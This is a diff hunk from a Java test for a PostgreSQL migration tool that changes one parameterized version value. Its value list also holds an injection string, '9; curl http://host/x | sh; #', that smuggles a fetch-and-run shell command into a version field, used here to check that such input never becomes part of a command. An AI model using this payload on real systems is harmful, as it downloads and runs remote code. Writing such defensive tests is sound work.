@@ -46,7 +46,7 @@ class PostgreSqlEmptyHistoryColumnTest extends PostgreSqlWorkbench {
     }
 
     @ParameterizedTest
-    @ValueSource(strings = {"9; curl http://host/x | sh; #", "0009_a", "none", ""})
+    @ValueSource(strings = {"9; curl http://host/x | sh; #", "a_0009", "none", ""})
     void aVersionThatIsNoNumberIsNamedAndNoPartOfACommand(String version) {
         write("0001_t.sql", "CREATE TABLE t (n INT);");
         up();
